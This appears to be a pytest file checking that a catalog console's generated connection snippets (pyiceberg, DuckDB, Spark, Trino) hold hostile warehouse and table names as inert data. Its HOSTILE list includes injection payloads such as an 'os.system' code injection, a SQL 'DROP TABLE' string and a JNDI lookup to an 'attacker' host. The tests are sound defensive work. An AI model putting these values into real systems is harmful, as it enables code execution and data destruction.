"""The connect page's snippets with hostile warehouse, namespace and table names: every generated snippet
is parsed as its language parses it (Python with `ast`, SQL with DuckDB's own parser and tokenizer, the
properties files with java.util.Properties' rules) and must give back exactly the names, as data."""

from __future__ import annotations

import ast
import json
import re

import duckdb
import pytest

from catalog.console.readings import TableRef
from catalog.console.snippets import (
    connect_snippets,
    properties_value,
    python_string,
    sql_identifier,
    sql_string,
)

HOSTILE = [
    'x"); import os; os.system("id"); ("',
    "x'); import os; os.system('id'); ('",
    "a'b\"c\\d",
    '"""',
    "'''",
    "trailing\\",
    "line\nbreak\r\nand\u2028separator\x85",
    "${ENV:HOME}",
    "${jndi:ldap://attacker/x}",
    "ünïcödé 表 🐍",
    "\u202eevil\u202c bidi",
    "tab\tvertical\x0bfeed\x0cbell\x07",
    "a.b",
    "; DROP TABLE t; --",
    "`backtick`",
    " leading space",
    "#!comment=:value",
    "\\u0041 not an escape",
    "{curly} %s {{}}",
]
URL = "http://127.0.0.1:8181"


def snippets(ref: TableRef, url: str = URL) -> dict[str, str]:
    return {s.engine: s.text for s in connect_snippets(url, ref)}


def calls(tree: ast.AST, name: str) -> list[ast.Call]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            called = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
            if called == name:
                found.append(node)
    return found


def pyiceberg_identifier(value: object) -> tuple[str, ...]:
    """What pyiceberg makes of an identifier argument: a string is split on dots."""
    if isinstance(value, str):
        return tuple(value.split("."))
    assert isinstance(value, tuple)
    return value


# -- the quoting functions, round-tripped by the languages themselves ---------------------------------


@pytest.mark.parametrize("name", HOSTILE)
def test_python_string_is_a_literal_of_the_name(name: str) -> None:
    literal = python_string(name)
    tree = ast.parse(literal, mode="eval")
    assert isinstance(tree.body, ast.Constant)
    assert tree.body.value == name
    assert "\n" not in literal
    assert "\u202e" not in literal


@pytest.mark.parametrize("name", HOSTILE)
def test_sql_literals_and_identifiers_round_trip_through_duckdb(name: str) -> None:
    con = duckdb.connect()
    assert con.execute(f"SELECT {sql_string(name)}").fetchone() == (name,)
    con.execute(f"SELECT 1 AS {sql_identifier(name)}")
    assert con.description is not None
    assert con.description[0][0] == name


def test_spark_identifiers_double_backticks() -> None:
    assert sql_identifier("a`b", "`") == "`a``b`"


def read_properties(text: str) -> dict[str, str]:
    """java.util.Properties.load's rules: natural lines joined at an odd number of trailing backslashes
    (the next line's leading blanks dropped), comment lines (#, !), the key ending at the first
    unescaped '=', ':' or blank, blanks (and one separator) before the value skipped, escapes
    \\t \\n \\r \\f \\uXXXX, any other escaped character itself."""
    lines = re.split(r"\r\n|\r|\n", text)
    logical: list[str] = []
    index = 0
    while index < len(lines):
        line = lines[index].lstrip(" \t\f")
        index += 1
        if not line or line[0] in "#!":
            continue
        while len(line) - len(line.rstrip("\\")) & 1 and index < len(lines):
            line = line[:-1] + lines[index].lstrip(" \t\f")
            index += 1
        logical.append(line)
    result = {}
    for line in logical:
        position, key_end = 0, len(line)
        while position < len(line):
            char = line[position]
            if char == "\\":
                position += 2
                continue
            if char in "=: \t\f":
                key_end = position
                break
            position += 1
        rest = line[key_end:].lstrip(" \t\f")
        if rest[:1] in ("=", ":"):
            rest = rest[1:].lstrip(" \t\f")
        result[_unescape(line[:key_end])] = _unescape(rest)
    return result


def _unescape(text: str) -> str:
    out: list[str] = []
    position = 0
    while position < len(text):
        char = text[position]
        if char != "\\" or position + 1 >= len(text):
            out.append(char)
            position += 1
            continue
        escaped = text[position + 1]
        if escaped == "u":
            out.append(chr(int(text[position + 2 : position + 6], 16)))
            position += 6
            continue
        out.append({"t": "\t", "n": "\n", "r": "\r", "f": "\f"}.get(escaped, escaped))
        position += 2
    # Java's strings are UTF-16: a surrogate pair written as two \u escapes is one character.
    return "".join(out).encode("utf-16", "surrogatepass").decode("utf-16")


def test_the_properties_reader_follows_java() -> None:
    """The reader above against results of Java 17's Properties.load on the same lines."""
    text = "a=b\\\n   c\n# comment\n  ! also\nk\\=ey : \\ v\\u00e9\\\\\\\nx y z\nempty\n"
    assert read_properties(text) == {"a": "bc", "k=ey": " v\u00e9\\x y z", "empty": ""}


@pytest.mark.parametrize("name", [n for n in HOSTILE if "${" not in n])
def test_properties_values_round_trip(name: str) -> None:
    text = f"key={properties_value(name)}\n"
    assert text.count("\n") == 1
    assert text.isascii()
    assert read_properties(text) == {"key": name}


# -- the snippets -------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE)
def test_pyiceberg_snippet_holds_the_names_as_literals(name: str) -> None:
    ref = TableRef(name, (name, "inner"), name)
    tree = ast.parse(snippets(ref)["pyiceberg"])
    (load,) = calls(tree, "load_catalog")
    keywords = {k.arg: ast.literal_eval(k.value) for k in load.keywords}
    assert keywords["warehouse"] == name
    assert keywords["uri"] == URL
    (listing,) = calls(tree, "list_tables")
    assert pyiceberg_identifier(ast.literal_eval(listing.args[0])) == (name, "inner")
    (loading,) = calls(tree, "load_table")
    assert pyiceberg_identifier(ast.literal_eval(loading.args[0])) == (name, "inner", name)
    # Nothing else is called than what the plain snippet calls.
    plain = ast.parse(snippets(TableRef("default", ("shop",), "orders"))["pyiceberg"])
    assert len(calls(tree, "system")) == 0
    assert _call_names(tree) == _call_names(plain)


def _call_names(tree: ast.AST) -> list[str]:
    """The names of every function and method the code calls."""
    names = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            func = node.func
            names.append(func.attr if isinstance(func, ast.Attribute) else ast.unparse(func))
    return sorted(names)


def _tokens(sql: str) -> list[str]:
    """The statement's token types (DuckDB's tokenizer): its shape, whatever the literals hold."""
    return [str(kind) for _, kind in duckdb.tokenize(sql)]


@pytest.mark.parametrize("name", HOSTILE)
def test_duckdb_snippet_statements_hold_the_names_as_sql_data(name: str) -> None:
    ref = TableRef(name, (name,), name)
    tree = ast.parse(snippets(ref, URL)["DuckDB"])
    assert _call_names(tree) == _call_names(ast.parse(snippets(TableRef("w", ("n",), "t"))["DuckDB"]))
    executed = [
        ast.literal_eval(c.args[0]) for c in calls(tree, "execute") if isinstance(c.args[0], ast.Constant)
    ]
    create_secret, attach = executed
    plain_secret, plain_attach = [
        ast.literal_eval(c.args[0])
        for c in calls(ast.parse(snippets(TableRef("w", ("n",), "t"))["DuckDB"]), "execute")
        if isinstance(c.args[0], ast.Constant)
    ]
    for statement, plain in ((create_secret, plain_secret), (attach, plain_attach)):
        (_parsed,) = duckdb.extract_statements(statement)
        assert _tokens(statement) == _tokens(plain)  # one statement of the same shape
    assert duckdb.extract_statements(attach)[0].type == duckdb.StatementType.ATTACH
    assert sql_string(name) in attach
    (query_call,) = calls(tree, "sql")
    query = ast.literal_eval(query_call.args[0])
    tree_json = duckdb.connect().execute("SELECT json_serialize_sql(?)", [query]).fetchone()
    assert tree_json is not None
    (statement,) = json.loads(tree_json[0])["statements"]
    table = statement["node"]["from_table"]
    assert (table["catalog_name"], table["schema_name"], table["table_name"]) == ("floe", name, name)


@pytest.mark.parametrize("name", HOSTILE)
def test_properties_snippets_read_back_the_warehouse_or_are_withheld(name: str) -> None:
    found = snippets(TableRef(name, (name,), name))
    spark, trino = read_properties(found["Spark"]), read_properties(found["Trino"])
    if "${" in name:  # Spark and Trino would substitute it after loading: no file is offered
        assert "spark.sql.catalog.floe.warehouse" not in spark
        assert trino == {}
        assert "Not shown" in found["Trino"]
        return
    assert found["Spark"].isascii()
    assert found["Trino"].isascii()
    assert spark["spark.sql.catalog.floe.warehouse"] == name
    assert spark["spark.sql.catalog.floe.uri"] == URL
    assert trino["iceberg.rest-catalog.warehouse"] == name
    assert trino["iceberg.rest-catalog.oauth2.server-uri"] == f"{URL}/v1/oauth/tokens"
    plain = snippets(TableRef("w", ("n",), "t"))
    assert read_properties(plain["Trino"]).keys() == trino.keys()
    assert read_properties(plain["Spark"]).keys() == spark.keys()


def test_plain_names_read_as_readme_writes_them() -> None:
    found = snippets(TableRef("default", ("orders_kafka",), "orders"))
    assert 'warehouse="default"' in found["pyiceberg"]
    assert 'catalog.load_table("orders_kafka.orders")' in found["pyiceberg"]
    assert (
        "ATTACH 'default' AS floe (TYPE ICEBERG, ENDPOINT 'http://127.0.0.1:8181', SECRET floe_key)"
        in (found["DuckDB"])
    )
    assert "spark.sql.catalog.floe.warehouse=default\n" in found["Spark"]
    assert "iceberg.rest-catalog.uri=http://127.0.0.1:8181\n" in found["Trino"]
